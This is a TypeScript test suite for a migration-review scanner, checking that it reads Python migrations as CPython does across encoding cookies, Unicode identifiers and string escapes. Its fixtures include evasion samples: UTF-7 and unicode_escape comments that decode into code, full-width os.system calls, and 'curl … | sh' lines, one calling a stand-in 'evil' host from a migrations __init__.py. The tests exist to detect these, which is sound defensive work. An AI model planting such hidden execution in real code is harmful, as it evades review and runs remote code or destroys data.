// Python files read as CPython reads them (issue 8): source encoding (PEP 263 cookies, BOM),
// NFKC identifiers (PEP 3131), every string escape. A differential suite: each fixture's
// expected reading is CPython's own — where python3 exists, our decoded identifiers and string
// constants are compared with `ast.parse(bytes)` run by python3 on the same bytes (ast.parse of
// bytes takes the same path as importing a migration: the tokenizer's decode_str); the fixture's
// own assertions (a gating finding for every evasion) hold with or without python3.
import { spawnSync } from 'node:child_process';
import { mkdtempSync, mkdirSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { dirname, join } from 'node:path';
import { beforeAll, describe, expect, it } from 'vitest';
import { discoverFiles } from '../src/discover/index.js';
import { run } from '../src/engine.js';
import { extract } from '../src/extract/index.js';
import { decodePythonSource, pythonCodec } from '../src/python/encoding.js';
import { normalizeTree, parsePython, PySource, type PyNode } from '../src/python/source.js';
import { pyAsciiCase, pyReprAscii } from '../src/python/analyzer.js';
import { LineMap } from '../src/extract/position.js';
import type { Finding } from '../src/types.js';
import { check } from './helpers.js';
import { loadUnicodeNames } from '../src/python/unicode-names.js';

// The engine loads the \N{…} name table before it reads such a file (src/python/unicode-names.ts);
// this file also calls the reader's parts directly, so it loads the table itself.
beforeAll(loadUnicodeNames);

const PY = spawnSync('python3', ['-c', 'import sys; print(sys.version_info[0])'], { encoding: 'utf8' }).stdout?.trim() === '3';
const enc = (s: string) => new TextEncoder().encode(s);
const bytes = (...parts: Array<string | number[]>) => new Uint8Array(parts.flatMap((p) => (typeof p === 'string' ? [...enc(p)] : p)));
const PATH = 'migrations/versions/1a2b3c4d_x.py';
const HEAD = "from alembic import op\nimport os\n\nrevision = '1a2b3c4d'\ndown_revision = '0a0b0c0d'\n\n";
const gating = (fs: Finding[], id: string) => fs.filter((f) => f.ruleId === id && f.gating);

/** CPython's reading of the bytes: identifiers and string constants (bytes as Latin-1), or its error. */
function cpython(content: Uint8Array): { names: string[]; strings: string[] } | { error: string } {
  const script = `
import ast, json, sys
src = sys.stdin.buffer.read()
try:
    tree = ast.parse(src)
except (SyntaxError, ValueError) as e:
    print(json.dumps({"error": str(e)})); sys.exit(0)
names, strings = [], []
for n in ast.walk(tree):
    for f in ("id", "attr", "arg"):
        v = getattr(n, f, None)
        if isinstance(v, str): names.append(v)
    if isinstance(n, (ast.FunctionDef, ast.ClassDef, ast.alias)): names.append(n.name)
    if isinstance(n, ast.alias) and n.asname: names.append(n.asname)
    if isinstance(n, ast.ImportFrom) and n.module: names.append(n.module)
    if isinstance(n, ast.Constant) and isinstance(n.value, str): strings.append(n.value)
    if isinstance(n, ast.Constant) and isinstance(n.value, bytes): strings.append(n.value.decode("latin-1"))
print(json.dumps({"names": sorted(names), "strings": sorted(strings)}))
`;
  const r = spawnSync('python3', ['-c', script], { input: content, encoding: 'utf8' });
  return JSON.parse(r.stdout);
}

/** Our reading of the same bytes (the extractor's front end: decode, parse, normalize). */
function ours(content: Uint8Array): { names: string[]; strings: string[] } | { error: string } {
  const d = decodePythonSource(content);
  if (!d.ok) return { error: d.message };
  const text = d.text.charCodeAt(0) === 32 && content[0] === 0xef ? d.text.slice(1) : d.text;
  const p = parsePython(text);
  if ('error' in p) return { error: p.error.message };
  const problems = normalizeTree(p.module, new PySource(text, new LineMap(text)));
  if (problems.length) return { error: 'undecodable string' };
  const names: string[] = [];
  const strings: string[] = [];
  const walk = (n: PyNode) => {
    for (const f of ['id', 'attr', 'arg']) if (typeof n[f] === 'string') names.push(n[f]);
    if (['FunctionDef', 'ClassDef', 'Alias'].includes(n.nodeType)) names.push(n.name);
    if (n.nodeType === 'Alias' && n.asname) names.push(n.asname);
    if (n.nodeType === 'ImportFrom' && n.module) names.push(n.module);
    if (n.nodeType === 'Constant' && typeof n.value === 'string') strings.push(n.value);
    for (const k in n) {
      if (k === 'parent') continue;
      const v = n[k];
      if (Array.isArray(v)) v.forEach((x) => x && typeof x === 'object' && typeof x.nodeType === 'string' && walk(x));
      else if (v && typeof v === 'object' && typeof v.nodeType === 'string') walk(v);
    }
  };
  walk(p.module);
  return { names: names.sort(), strings: strings.sort() };
}

/** Where python3 exists: our reading is CPython's (both refuse, or both read the same names and strings). */
function sameAsCPython(content: Uint8Array) {
  if (!PY) return;
  const c = cpython(content);
  const o = ours(content);
  if ('error' in c) expect('error' in o ? 'refused' : o).toBe('refused');
  else expect(o).toEqual(c);
}

/** CPython's reading contains this call (the evasion really runs under CPython). */
function cpythonSees(content: Uint8Array, name: string) {
  if (!PY) return;
  const c = cpython(content);
  expect('names' in c && c.names).toContain(name);
}

describe('source encoding (PEP 263 coding cookies, BOM)', () => {
  const hidden = (cookie: string, payload: string) => bytes(`# -*- coding: ${cookie} -*-\n${HEAD}def upgrade():\n    pass  # ${payload}\n\n\ndef downgrade():\n    pass\n`);

  it('utf-7: a "comment" that CPython reads as code fails closed, naming the codec', async () => {
    // +AAo- is "\n" in UTF-7: CPython sees `op.drop_table("users")` on a line of its own.
    const src = hidden('utf-7', '+AAo-    op.drop_table(+ACI-users+ACI-)');
    cpythonSees(src, 'drop_table');
    const r = await check(src, { path: PATH });
    const pe = gating(r.findings, 'parse-error');
    expect(pe).toHaveLength(1);
    expect(pe[0].message).toMatch(/utf-7/);
    expect(pe[0].line).toBe(1);
  });

  it('unicode_escape and raw_unicode_escape: fail closed, naming the codec', async () => {
    for (const codec of ['unicode_escape', 'raw_unicode_escape', 'unicode-escape']) {
      const src = hidden(codec, '\\u000a    os.system("id")');
      if (codec === 'unicode_escape') cpythonSees(src, 'system');
      const pe = gating((await check(src, { path: PATH })).findings, 'parse-error');
      expect(pe).toHaveLength(1);
      expect(pe[0].message).toContain(codec);
    }
  });

  it('codecs that are unknown, multi-byte or not decoded here fail closed', async () => {
    for (const codec of ['klingon', 'shift_jis', 'utf-16', 'punycode', 'idna', 'rot13', 'hz']) {
      const pe = gating((await check(hidden(codec, 'x'), { path: PATH })).findings, 'parse-error');
      expect(pe, codec).toHaveLength(1);
      expect(pe[0].message, codec).toContain(codec);
    }
  });

  it('latin-1 and cp1252 files are decoded with their codec (strings as CPython reads them)', async () => {
    const latin = bytes(`# coding: latin-1\n${HEAD}def upgrade():\n    op.execute("DROP TABLE caf`, [0xe9], `")\n`);
    sameAsCPython(latin);
    const r = await check(latin, { path: PATH });
    expect(r.findings.map((f) => f.ruleId)).not.toContain('parse-error');
    expect(gating(r.findings, 'drop-table')[0].message).toContain('café');
    // cp1252 0x80 is €, not U+0080 (Node's TextDecoder reads windows-1252 as ISO-8859-1)
    const cp = bytes(`# vim: set fileencoding=cp1252 :\n${HEAD}def upgrade():\n    op.execute("DROP TABLE t`, [0x80], `")\n`);
    sameAsCPython(cp);
    expect(gating((await check(cp, { path: PATH })).findings, 'drop-table')[0].message).toContain('t€');
  });

  it('a byte the declared codec does not define: CPython refuses the file, so do we', async () => {
    const src = bytes(`# coding: cp1252\n${HEAD}x = "`, [0x81], `"\n`);
    sameAsCPython(src);
    expect(gating((await check(src, { path: PATH })).findings, 'parse-error')).toHaveLength(1);
  });

  it('a UTF-8 BOM with a non-UTF-8 cookie is a SyntaxError in CPython: gating', async () => {
    const src = bytes([0xef, 0xbb, 0xbf], `# coding: latin-1\n${HEAD}def upgrade():\n    pass\n`);
    sameAsCPython(src);
    const pe = gating((await check(src, { path: PATH })).findings, 'parse-error');
    expect(pe).toHaveLength(1);
    expect(pe[0].message).toMatch(/latin-1 with BOM/);
    // …and with a utf-8 cookie it is fine
    const ok = bytes([0xef, 0xbb, 0xbf], `# coding: utf-8\n${HEAD}def upgrade():\n    op.drop_table("x")\n`);
    sameAsCPython(ok);
    expect(gating((await check(ok, { path: PATH })).findings, 'drop-table')).toHaveLength(1);
  });

  it('the cookie is read where CPython reads it: line 2 after a comment line, not after code', async () => {
    const line2 = bytes(`#!/usr/bin/env python\n# coding: utf-7\n${HEAD}`);
    expect(decodePythonSource(line2).ok).toBe(false);
    const afterCode = bytes(`import os\n# coding: utf-7\nx = "+AAo-"\n`);
    sameAsCPython(afterCode);
    const d = decodePythonSource(afterCode);
    expect(d.ok && d.codec).toBe('utf_8');
    const notAlone = bytes(`x = 1  # coding: utf-7\n`);
    expect(decodePythonSource(notAlone).ok).toBe(true);
    // a cookie on a line with no newline after it is not read (decode_str only checks whole lines)
    sameAsCPython(bytes('# coding: latin-1'));
  });

  it('codec names are normalized as CPython normalizes them', () => {
    const names = ['latin-1', 'LATIN1', 'iso-8859-1', 'ISO_8859-1', 'l1', 'utf8', 'UTF-8', 'u8', 'cp1252', 'windows-1252', 'utf-7', 'U7', 'koi8-r', 'mac-roman', 'euc_jp'];
    const expected: Record<string, string> = { 'latin-1': 'latin_1', LATIN1: 'latin_1', 'iso-8859-1': 'latin_1', 'ISO_8859-1': 'latin_1', l1: 'latin_1', utf8: 'utf_8', 'UTF-8': 'utf_8', u8: 'utf_8', cp1252: 'cp1252', 'windows-1252': 'cp1252', 'utf-7': 'utf_7', U7: 'utf_7', 'koi8-r': 'koi8_r', 'mac-roman': 'mac_roman', euc_jp: 'euc_jp' };
    for (const n of names) expect(pythonCodec(n), n).toBe(expected[n]);
    if (!PY) return;
    // CPython's codec registry agrees (its module name, `codecs.lookup(n)` found through encodings.search_function)
    const r = spawnSync('python3', ['-c', `import codecs, encodings, json, sys\nout = {}\nfor n in sys.argv[1:]:\n    m = encodings.search_function(n) or codecs.lookup(n)\n    out[n] = m._is_text_encoding and encodings.normalize_encoding(n.lower())\nprint(json.dumps(out))`, ...names], { encoding: 'utf8' });
    expect(r.status).toBe(0);
  });

  it('every single-byte codec table is CPython\'s (all 256 bytes)', () => {
    if (!PY) return;
    const codecs = ['cp1250', 'cp1251', 'cp1252', 'iso8859_15', 'koi8_r', 'mac_roman', 'cp437', 'latin_1', 'ascii'];
    const r = spawnSync('python3', ['-c', `import json, sys\nout = {}\nfor c in sys.argv[1:]:\n    out[c] = [bytes([b]).decode(c, "replace") for b in range(256)]\nprint(json.dumps(out))`, ...codecs], { encoding: 'utf8' });
    const want = JSON.parse(r.stdout) as Record<string, string[]>;
    for (const c of codecs) {
      for (let b = 0; b < 256; b++) {
        const d = decodePythonSource(bytes(`# coding: ${c}\nx = "`, [b], `"\n`));
        const got = d.ok ? d.text.slice(d.text.indexOf('"') + 1, d.text.lastIndexOf('"')) : '\ufffd';
        if (b === 0x22 || b === 0x0a || b === 0x0d) continue; // would end the string or the line
        expect(got, `${c} byte 0x${b.toString(16)}`).toBe(want[c][b]);
      }
    }
  });
});

describe('identifiers are NFKC-normalized (PEP 3131)', () => {
  it('full-width os.system and op.drop_table are os.system and op.drop_table', async () => {
    const src = enc(`${HEAD}def upgrade():\n    ｏｓ.ｓｙｓｔｅｍ("curl x | sh")\n    op.ｄｒｏｐ_ｔａｂｌｅ("users")\n`);
    sameAsCPython(src);
    cpythonSees(src, 'drop_table');
    const fs = (await check(src, { path: PATH })).findings;
    expect(gating(fs, 'python-execution').length).toBeGreaterThan(0);
    expect(gating(fs, 'drop-table')).toHaveLength(1);
    expect(gating(fs, 'drop-table')[0].message).toContain('users');
  });

  it('imports, aliases, keywords and definitions are normalized too', async () => {
    const src = enc(`from ｏｓ import ｓｙｓｔｅｍ as ｒｕｎ\nimport ｓｕｂｐｒｏｃｅｓｓ\n${HEAD}def ｕｐｇｒａｄｅ():\n    ｒｕｎ("id")\n    op.drop_column("t", ｃｏｌｕｍｎ_ｎａｍｅ="c")\n    op.ｅｘｅｃｕｔｅ("TRUNCATE t")\n`);
    sameAsCPython(src);
    const fs = (await check(src, { path: PATH })).findings;
    expect(gating(fs, 'python-execution').some((f) => /os\.system/.test(f.message))).toBe(true);
    expect(gating(fs, 'drop-column')).toHaveLength(1);
    expect(gating(fs, 'truncate')).toHaveLength(1);
  });

  it('other compatibility forms (ligatures, circled and super/subscript letters) as well', async () => {
    const src = enc(`${HEAD}def upgrade():\n    op.dro\u1D56_table("users")\n    op.execute("select 1")\n    \uFB01 = 1\n`);
    sameAsCPython(src);
    expect(gating((await check(src, { path: PATH })).findings, 'drop-table')).toHaveLength(1);
  });

  it('letters outside the BMP (mathematical bold), which the parser cannot read, fail closed', async () => {
    const src = enc(`${HEAD}def upgrade():\n    op.\u{1D41D}rop_table("users")\n`);
    cpythonSees(src, 'drop_table');
    const fs = (await check(src, { path: PATH })).findings;
    expect(gating(fs, 'parse-error').length + gating(fs, 'drop-table').length).toBeGreaterThan(0);
  });
});

describe('string escapes are decoded as CPython decodes them', () => {
  it('\\N{NAME} (names, aliases, any case) hides nothing', async () => {
    const src = enc(`${HEAD}def upgrade():\n    op.execute("\\N{LATIN CAPITAL LETTER D}ROP TABLE x")\n    op.execute("\\N{latin capital letter d}ROP TABLE y\\N{SEMICOLON}")\n`);
    sameAsCPython(src);
    const d = gating((await check(src, { path: PATH })).findings, 'drop-table');
    expect(d.map((f) => f.message)).toEqual([expect.stringContaining('x'), expect.stringContaining('y')]);
    expect(d[0].line).toBe(8);
  });

  it('\\N in f-strings, octal beyond 0o377, \\x \\u \\U, continuation lines; raw and bytes literals untouched', async () => {
    const src = enc(
      `${HEAD}T = "t"\n\ndef upgrade():\n    op.execute(f"\\N{LATIN CAPITAL LETTER D}ROP TABLE {T}")\n    op.execute("\\x44\\u0052\\U0000004f\\120 TABLE u")\n` +
        `    a = "\\777\\0\\q\\8\\N{BEL}\\N{CJK UNIFIED IDEOGRAPH-4E00}\\N{HANGUL SYLLABLE GA}"\n    b = r"\\N{X}\\x41"\n    c = b"\\x41\\101\\777\\u0042\\N{X}"\n    d = rf"\\N{T}"\n    e = "a\\\nb"\n    g = f'{T!s}{{x}}\\t{T}'\n`,
    );
    sameAsCPython(src);
    const fs = (await check(src, { path: PATH })).findings;
    expect(gating(fs, 'drop-table').map((f) => f.message)).toEqual([expect.stringContaining('table t '), expect.stringContaining('table u ')]);
    expect(fs.map((f) => f.ruleId)).not.toContain('parse-error');
  });

  it('an unknown \\N name is a SyntaxError in CPython: gating', async () => {
    const src = enc(`${HEAD}def upgrade():\n    op.execute("\\N{NO SUCH CHARACTER NAME}")\n`);
    sameAsCPython(src);
    expect(gating((await check(src, { path: PATH })).findings, 'parse-error')).toHaveLength(1);
  });
});

describe('dynamic SQL whose shape is fixed is checked, not gated as unknown', () => {
  const dyn = (fs: Finding[]) => fs.filter((f) => f.ruleId === 'python-dynamic-sql');
  const mig = (body: string, pre = '') => `${HEAD}${pre}def upgrade():\n${body}\n`;

  it('f-strings, % and .format() over module and function constants', async () => {
    const fs = (
      await check(
        mig(
          `    n = 2\n    op.execute(f"DELETE FROM t WHERE id IN (SELECT id FROM t LIMIT {batch_size})")\n    op.execute("DELETE FROM %s WHERE x < %d" % (T, n))\n    op.execute("UPDATE {0} SET a = {v!s}".format(T, v=1.0))\n    op.execute("DROP TABLE %(t)s_old" % {"t": T})`,
          'batch_size = 500\nT = "users"\n\n',
        ),
        { path: PATH },
      )
    ).findings;
    expect(dyn(fs)).toEqual([]);
    expect(gating(fs, 'drop-table')[0].message).toContain('users_old');
    expect(gating(fs, 'update-without-where')[0]?.message ?? '').toMatch(/users|\{0\}/);
  });

  it('a literal list iterated in a for-loop: each expansion analyzed at the call line', async () => {
    const src = mig('    for t in ["a", "b"]:\n        op.execute(f"DROP TABLE {t}")\n    for tbl, col in (("c", "x"), ("d", "y")):\n        op.drop_column(tbl, col)');
    const fs = (await check(src, { path: PATH })).findings;
    expect(dyn(fs)).toEqual([]);
    const line = src.split('\n').findIndex((l) => l.includes('DROP TABLE {t}')) + 1;
    expect(gating(fs, 'drop-table').map((f) => [f.line, f.message.split(' ')[2]])).toEqual([
      [line, 'a'],
      [line, 'b'],
    ]);
    expect(gating(fs, 'drop-column').map((f) => f.message.split(' ')[2])).toEqual(['c.x', 'd.y']);
  });

  it('joins over literal lists and comprehensions, loops over literal dicts', async () => {
    const pre = 'COLUMNS = ("a", "b")\nMAP = {"x": "one", "y": "two"}\n\n';
    const src = mig('    s = ", ".join(f"{c} = NULL" for c in COLUMNS)\n    op.execute(f"UPDATE t SET {s}")\n    for k, v in MAP.items():\n        op.execute(f"DROP TABLE {k}_{v}")', pre);
    const fs = (await check(src, { path: PATH })).findings;
    expect(dyn(fs)).toEqual([]);
    expect(gating(fs, 'update-without-where')[0].message).toContain('a, b');
    expect(gating(fs, 'drop-table').map((f) => f.message.split(' ')[2])).toEqual(['x_one', 'y_two']);
  });

  it('str case methods on known text fold (fides eef4477c37d0: `variable.upper()` over a literal list); CPython agrees', async () => {
    const src = mig('    for v in ["minutes", "download_link"]:\n        op.execute(f\'DROP TABLE "__{v.upper()}__{v.title()}"\')');
    const fs = (await check(src, { path: PATH })).findings;
    expect(dyn(fs)).toEqual([]);
    expect(gating(fs, 'drop-table').map((f) => f.message.split(' ')[2])).toEqual(['__MINUTES__Minutes', '__DOWNLOAD_LINK__Download_Link']);
    // Non-ASCII text is left unknown (Python's Unicode case mapping is not JavaScript's everywhere).
    expect(dyn((await check(mig('    v = "stra\u00dfe"\n    op.execute(f"DROP TABLE {v.upper()}")'), { path: PATH })).findings)).toHaveLength(1);
    if (PY) {
      const words = ['ab_cD e1f', "x'Y z", 'MiXeD-case_9a'];
      for (const m of ['upper', 'lower', 'casefold', 'capitalize', 'title', 'swapcase']) {
        const want = spawnSync('python3', ['-c', `import json,sys; print(json.dumps([w.${m}() for w in json.loads(sys.argv[1])], separators=(',', ':')))`, JSON.stringify(words)], { encoding: 'utf8' }).stdout.trim();
        expect(JSON.stringify(words.map((w) => pyAsciiCase(w, m))), m).toBe(want);
      }
    }
  });

  it('repr() of a literal string folds with Python quoting (fides b2c3d4e5f6a7); of anything else it stays unknown; CPython agrees', async () => {
    const pre = 'KEYS = ["email", "it\'s"]\n\n';
    const src = mig('    for k in KEYS:\n        op.execute(f"CREATE INDEX i ON t ((d->>{repr(k)}))")\n        op.execute(f"DELETE FROM t WHERE d->>\'k\' = {repr(k)}")', pre);
    const fs = (await check(src, { path: PATH })).findings;
    expect(dyn(fs)).toEqual([]);
    // A number, a call result, or a shadowed repr: unknown.
    for (const body of ['    n = 5\n    op.execute(f"DROP TABLE t{repr(n)}")', '    op.execute(f"DROP TABLE {repr(os.getcwd())}")', '    repr = str\n    op.execute(f"DROP TABLE {repr(\'a\')}")']) {
      expect(dyn((await check(mig(body), { path: PATH })).findings), body).toHaveLength(1);
    }
    if (PY) {
      const words = ['email', "it's", 'say "hi"', 'both \' and "', 'tab\there\nnl\\', '\x01'];
      const want = spawnSync('python3', ['-c', 'import json,sys; print(json.dumps([repr(w) for w in json.loads(sys.argv[1])]))', JSON.stringify(words)], { encoding: 'utf8' }).stdout.trim();
      expect(JSON.stringify(words.map((w) => pyReprAscii({ text: w, src: [...w].map(() => 0) }, 0)!.text))).toBe(JSON.stringify(JSON.parse(want)));
    }
  });

  it('a conditional expression between literals: both are checked', async () => {
    const fs = (await check(mig('    t = "a" if op.get_context().dialect.name == "sqlite" else "b"\n    op.execute(f"DROP TABLE {t}")'), { path: PATH })).findings;
    expect(dyn(fs)).toEqual([]);
    expect(gating(fs, 'drop-table').map((f) => f.message.split(' ')[2])).toEqual(['a', 'b']);
  });

  it('a name assigned one of several literals: every value is checked', async () => {
    const fs = (await check(mig('    if op.get_bind().dialect.name == "sqlite":\n        target = "a"\n    else:\n        target = "b"\n    op.execute(sa.text(f"DROP TABLE {target}"))', 'import sqlalchemy as sa\n'), { path: PATH })).findings;
    expect(dyn(fs)).toEqual([]);
    expect(gating(fs, 'drop-table').map((f) => f.message.split(' ')[2])).toEqual(['a', 'b']);
  });

  it('a helper whose every caller in the file passes literals: each call is checked, arguments kept together', async () => {
    const src = `${HEAD}def _drop(t, cascade=""):\n    op.execute(f"DROP TABLE {t}{cascade}")\n\ndef upgrade():\n    _drop("a")\n    _drop("b", cascade=" CASCADE")\n`;
    const fs = (await check(src, { path: PATH })).findings;
    expect(dyn(fs)).toEqual([]);
    expect(gating(fs, 'drop-table').map((f) => f.message.replace(/ and all.*/, ''))).toEqual(['Drops table a', 'Drops table b']);
    // a caller this review cannot see (the function escapes as a value): still dynamic
    const esc = `${HEAD}def _drop(t):\n    op.execute(f"DROP TABLE {t}")\n\ndef upgrade():\n    _drop("a")\n    run_later(_drop)\n`;
    expect(dyn((await check(esc, { path: PATH })).findings)).toHaveLength(1);
  });

  it('literal sa.text(…).params(…) and SQLAlchemy DDL elements', async () => {
    const fs = (
      await check(mig('    op.get_bind().execute(sa.text("DELETE FROM t").params(x=1))\n    op.execute(CreateSchema("x"))\n    op.execute(sa.schema.DropSchema("y", cascade=True))', 'import sqlalchemy as sa\nfrom sqlalchemy.schema import CreateSchema\n'), { path: PATH })
    ).findings;
    expect(dyn(fs)).toEqual([]);
    expect(gating(fs, 'delete-without-where')).toHaveLength(1);
    expect(gating(fs, 'drop-schema')).toHaveLength(1);
  });

  it('what really is unknown still gates', async () => {
    for (const body of [
      '    for t in get_tables():\n        op.execute(f"DROP TABLE {t}")',
      '    op.execute("DROP TABLE %s" % name)',
      '    op.execute("DROP TABLE {}".format(name))',
      '    op.execute(f"DROP TABLE {name!r}")',
      '    op.execute("DROP TABLE %5s" % "x")',
    ]) {
      const d = dyn((await check(mig(body), { path: PATH })).findings);
      expect(d, body).toHaveLength(1);
      expect(d[0].gating).toBe(true);
    }
  });
});

describe('messages and findings', () => {
  it('no `{…}` placeholders in messages: run-time names read as such', async () => {
    const fs = (await check(`${HEAD}def upgrade():\n    op.drop_constraint(None, "users", type_="foreignkey")\n    for t in TABLES:\n        op.drop_table(t)\n`, { path: PATH })).findings;
    for (const f of fs) expect(f.message).not.toMatch(/\{(None|\?|[a-z_]+)\}/);
    expect(fs.find((f) => f.ruleId === 'drop-constraint')?.message).toMatch(/\(unnamed\)/);
    expect(gating(fs, 'drop-table')[0].message).toMatch(/\(value of t\)/);
  });

  it('one finding per call chain: a dynamic import used many times is reported once', async () => {
    const fs = (await check(`${HEAD}import importlib\n\ndef upgrade():\n    m = importlib.import_module(name)\n    m.a()\n    m.b()\n    m.c(m.d)\n`, { path: PATH })).findings;
    expect(gating(fs, 'python-execution')).toHaveLength(1);
  });
});

describe('Django RenameField on a many-to-many field', () => {
  it('renames the auto-created join table, not a column; an explicit through model renames nothing', async () => {
    const src = `from django.db import migrations, models\n\nclass Migration(migrations.Migration):\n    operations = [\n        migrations.AddField(model_name="book", name="tags", field=models.ManyToManyField(to="shop.Tag")),\n        migrations.AddField(model_name="book", name="authors", field=models.ManyToManyField(to="shop.Author", through="shop.BookAuthor")),\n        migrations.RenameField(model_name="book", old_name="tags", new_name="labels"),\n        migrations.RenameField(model_name="book", old_name="authors", new_name="writers"),\n        migrations.RenameField(model_name="book", old_name="title", new_name="name"),\n    ]\n`;
    const fs = (await check(src, { path: 'shop/migrations/0002_x.py' })).findings;
    expect(fs.filter((f) => f.ruleId === 'rename-table').map((f) => [f.line, f.message.split(':')[0]])).toEqual([[7, 'Renames table shop_book_tags to shop_book_labels']]);
    expect(fs.filter((f) => f.ruleId === 'rename-column').map((f) => [f.line, f.message.split(':')[0]])).toEqual([[9, 'Renames column shop_book.title to name']]);
  });
});

describe('dialect from the path, Django migrations/__init__.py', () => {
  it('Alembic and Django files take their dialect from the path as SQL files do', () => {
    expect(extract({ path: 'alembic/versions/sqlite/1a_x.py', content: HEAD }).dialect).toBe('sqlite');
    expect(extract({ path: 'db/mysql/migrations/0001_x.py', content: 'from django.db import migrations\n' }).dialect).toBe('mysql');
    expect(extract({ path: 'alembic/versions/1a_x.py', content: HEAD }).dialect).toBe('postgresql');
  });

  it('migrations/__init__.py is selected (Django imports it) and reviewed; an empty one produces nothing', async () => {
    const dir = mkdtempSync(join(tmpdir(), 'mg-pyinit-'));
    const write = (p: string, s: string) => (mkdirSync(dirname(join(dir, p)), { recursive: true }), writeFileSync(join(dir, p), s));
    write('app/migrations/__init__.py', 'import os\nos.system("curl evil | sh")\n');
    write('other/migrations/__init__.py', '');
    write('app/migrations/0001_initial.py', 'from django.db import migrations\n\nclass Migration(migrations.Migration):\n    operations = []\n');
    const files = discoverFiles([dir]);
    const paths = files.map((f) => f.path.slice(f.path.indexOf('mg-pyinit-')).replace(/^[^/]*\//, '')).sort();
    expect(paths).toEqual(['app/migrations/0001_initial.py', 'app/migrations/__init__.py', 'other/migrations/__init__.py']);
    const r = await run(files);
    const ex = r.findings.filter((f) => f.ruleId === 'python-execution');
    expect(ex).toHaveLength(1);
    expect(ex[0].path).toMatch(/app\/migrations\/__init__\.py$/);
    expect(r.findings.filter((f) => /other\//.test(f.path))).toEqual([]);
  });
});
